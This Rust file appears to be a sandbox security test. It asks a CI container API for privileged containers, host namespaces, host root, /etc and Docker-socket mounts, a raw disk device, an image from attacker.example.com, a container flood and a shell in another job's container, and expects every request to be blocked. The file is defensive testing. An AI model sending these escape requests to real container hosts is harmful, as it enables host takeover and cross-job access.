//! Escape through the job's container API (docs/containers.md): ask airlock for what Docker
//! would give a job that holds its socket. A privileged container, host capabilities, the
//! host's network and pid namespace, a host path, the Docker socket, a device, another job's
//! container, and more containers than the group allows. Harmless: every request asks for a
//! container of the job itself; one that airlock grants is torn down with the job (and the
//! attack then asks for cleanup at once).
//!
//! A group without `containers` has no API: every attempt fails to connect (blocked).

use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixStream;
use std::time::Duration;

use airlock_containers::wire::Frame;
use serde_json::json;

use super::util::Step;
use super::{Attack, AttackResult, Category, Expect};

/// `container-api`: ask the container API for what would open the host.
pub struct ContainerApi;

/// Sends one hook request; `Ok(output)` if the API granted it (exit 0), `Err(why)` if not.
fn ask(request: &serde_json::Value) -> Result<String, String> {
    let path = format!(
        "{}/{}",
        airlock_containers::API_DIR,
        airlock_containers::SOCKET
    );
    let mut s = UnixStream::connect(&path).map_err(|e| format!("connect {path}: {e}"))?;
    let _ = s.set_read_timeout(Some(Duration::from_secs(60)));
    let line = json!({ "request": request.to_string() }).to_string();
    s.write_all(format!("{line}\n").as_bytes())
        .map_err(|e| e.to_string())?;
    let mut said = String::new();
    for l in BufReader::new(s).lines() {
        let l = l.map_err(|e| e.to_string())?;
        match Frame::parse(&l) {
            Some(Frame::Out(b) | Frame::Err(b)) => said.push_str(&String::from_utf8_lossy(&b)),
            Some(Frame::Exit { code: 0, .. }) => return Ok(said.trim().to_owned()),
            Some(Frame::Exit { code, .. }) => {
                return Err(format!("refused (exit {code}): {}", said.trim()))
            }
            None => return Err(format!("unreadable frame {l:?}")),
        }
    }
    Err("the API closed the connection without an answer".into())
}

fn prepare(container: serde_json::Value, services: serde_json::Value) -> serde_json::Value {
    json!({ "command": "prepare_job", "responseFile": null, "state": {},
            "args": { "container": container, "services": services } })
}

fn job(extra: serde_json::Value) -> serde_json::Value {
    let mut c = json!({ "image": "busybox:latest", "workingDirectory": "/__w" });
    if let (Some(c), Some(e)) = (c.as_object_mut(), extra.as_object()) {
        for (k, v) in e {
            c.insert(k.clone(), v.clone());
        }
    }
    c
}

impl Attack for ContainerApi {
    fn id(&self) -> &'static str {
        "container-api"
    }
    fn title(&self) -> &'static str {
        "ask the container API for a privileged container, host mounts, host namespaces, another job's container, too many containers"
    }
    fn category(&self) -> Category {
        Category::Escape
    }
    fn expect(&self) -> Expect {
        Expect::Blocked
    }
    fn run(&self) -> AttackResult {
        let many: Vec<_> = (0..65)
            .map(|i| json!({ "contextName": format!("s{i}"), "image": "busybox:latest", "entryPoint": "sleep", "entryPointArgs": ["60"] }))
            .collect();
        let attempts = [
            (
                "privileged container",
                prepare(job(json!({ "createOptions": "--privileged" })), json!([])),
            ),
            (
                "capabilities",
                prepare(job(json!({ "createOptions": "--cap-add ALL" })), json!([])),
            ),
            (
                "host network",
                prepare(job(json!({ "createOptions": "--network=host" })), json!([])),
            ),
            (
                "host pid namespace",
                prepare(job(json!({ "createOptions": "--pid host" })), json!([])),
            ),
            (
                "seccomp off",
                prepare(
                    job(json!({ "createOptions": "--security-opt seccomp=unconfined" })),
                    json!([]),
                ),
            ),
            (
                "device",
                prepare(
                    job(json!({ "createOptions": "--device /dev/sda" })),
                    json!([]),
                ),
            ),
            (
                "host path volume",
                prepare(
                    job(
                        json!({ "userMountVolumes": [{ "sourceVolumePath": "/", "targetVolumePath": "/host", "readOnly": false }] }),
                    ),
                    json!([]),
                ),
            ),
            (
                "docker socket as a volume",
                prepare(
                    job(
                        json!({ "userMountVolumes": [{ "sourceVolumePath": "/var/run/docker.sock", "targetVolumePath": "/var/run/docker.sock", "readOnly": false }] }),
                    ),
                    json!([]),
                ),
            ),
            (
                "docker socket as a system mount at another path",
                prepare(
                    job(
                        json!({ "systemMountVolumes": [{ "sourceVolumePath": "/var/run/docker.sock", "targetVolumePath": "/__w/docker.sock", "readOnly": false }] }),
                    ),
                    json!([]),
                ),
            ),
            (
                "host /etc as a system mount",
                prepare(
                    job(
                        json!({ "systemMountVolumes": [{ "sourceVolumePath": "/etc", "targetVolumePath": "/etc", "readOnly": false }] }),
                    ),
                    json!([]),
                ),
            ),
            (
                "root in the container",
                prepare(job(json!({ "createOptions": "--user 0:0" })), json!([])),
            ),
            (
                "image from any registry",
                prepare(
                    job(json!({ "image": "attacker.example.com/implant:1" })),
                    json!([]),
                ),
            ),
            (
                "a flood of containers",
                prepare(job(json!({})), json!(many)),
            ),
            (
                "another job's container",
                json!({ "command": "run_script_step", "responseFile": null,
                "state": { "container": "j0123456789abcdef" },
                "args": { "entryPoint": "/bin/sh", "entryPointArgs": ["-c", "id"], "workingDirectory": "/" } }),
            ),
        ];
        let mut steps: Vec<Step> = attempts
            .iter()
            .map(|(what, req)| Step::from(*what, ask(req)))
            .collect();
        if steps.iter().any(|s| s.succeeded) {
            // Whatever was granted goes now.
            let _ = ask(
                &json!({ "command": "cleanup_job", "responseFile": null, "state": {}, "args": {} }),
            );
        }
        // Not the protocol at all.
        let garbage = UnixStream::connect(format!(
            "{}/{}",
            airlock_containers::API_DIR,
            airlock_containers::SOCKET
        ))
        .and_then(|mut s| {
            s.write_all(b"\x00\xff{{{{\n")?;
            let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
            let mut out = String::new();
            BufReader::new(s).read_line(&mut out)?;
            Ok(out)
        });
        steps.push(match garbage {
            Ok(l) if matches!(Frame::parse(l.trim()), Some(Frame::Exit { code: 0, .. })) => {
                Step::ok("garbage request", "answered as granted")
            }
            Ok(_) => Step::failed("garbage request", "refused"),
            Err(e) => Step::failed("garbage request", e.to_string()),
        });
        AttackResult::from_steps(self.id(), &steps)
    }
}
